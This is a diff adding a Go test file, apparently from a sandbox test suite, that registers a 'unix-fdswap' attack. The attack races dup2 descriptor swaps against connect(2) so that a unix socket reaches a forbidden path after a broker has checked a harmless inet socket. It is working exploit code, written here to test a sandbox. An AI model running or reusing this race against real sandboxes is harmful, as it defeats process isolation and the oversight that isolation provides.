@@ -1,0 +1,76 @@
+//go:build linux
+
+package privtests
+
+import (
+	"fmt"
+	"runtime"
+	"strconv"
+	"sync/atomic"
+
+	"golang.org/x/sys/unix"
+)
+
+func init() {
+	// unix-fdswap PATH TRIES: connect a unix socket to PATH. First plainly;
+	// then, TRIES times, connect(2) descriptor 100 holding an inet socket
+	// while another thread swaps a fresh unix socket onto 100 and back
+	// (dup2): a broker that checks the descriptor and lets the kernel carry
+	// on has the kernel look 100 up again, and connect the unix socket to
+	// PATH unchecked (found by an attack pass).
+	attacks["unix-fdswap"] = func(a []string) (string, error) {
+		target := a[0]
+		tries, _ := strconv.Atoi(a[1])
+		if said, err := dialUnix(target); err == nil {
+			return said + " (a plain connect)", nil
+		}
+		const slot = 100
+		var u, in atomic.Int32
+		var stop atomic.Bool
+		done := make(chan struct{})
+		go func() {
+			runtime.LockOSThread()
+			defer close(done)
+			for !stop.Load() {
+				if uf, inf := u.Load(), in.Load(); uf > 0 && inf > 0 {
+					unix.Dup3(int(uf), slot, unix.O_CLOEXEC)
+					unix.Dup3(int(inf), slot, unix.O_CLOEXEC)
+				}
+			}
+		}()
+		defer func() { stop.Store(true); <-done }()
+		runtime.LockOSThread()
+		sa := &unix.SockaddrUnix{Name: target}
+		for i := 1; i <= tries; i++ {
+			uf, err := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
+			if err != nil {
+				return "", fmt.Errorf("socket(AF_UNIX): %w", err)
+			}
+			inf, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
+			if err != nil {
+				unix.Close(uf)
+				return "", fmt.Errorf("socket(AF_INET): %w", err)
+			}
+			unix.Dup3(inf, slot, unix.O_CLOEXEC)
+			in.Store(int32(inf))
+			u.Store(int32(uf))
+			unix.Connect(slot, sa)
+			u.Store(0)
+			in.Store(0)
+			if _, err := unix.Getpeername(uf); err == nil {
+				unix.SetsockoptTimeval(uf, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &unix.Timeval{Sec: 2})
+				buf := make([]byte, 16)
+				n, _ := unix.Read(uf, buf)
+				unix.Close(uf)
+				unix.Close(inf)
+				if n > 0 {
+					return fmt.Sprintf("unix socket said %s (the swap won after %d tries)", buf[:n], i), nil
+				}
+				return fmt.Sprintf("connected to %s (the swap won after %d tries)", target, i), nil
+			}
+			unix.Close(uf)
+			unix.Close(inf)
+		}
+		return "", fmt.Errorf("neither a plain connect nor %d swaps reached %s", tries, target)
+	}
+}
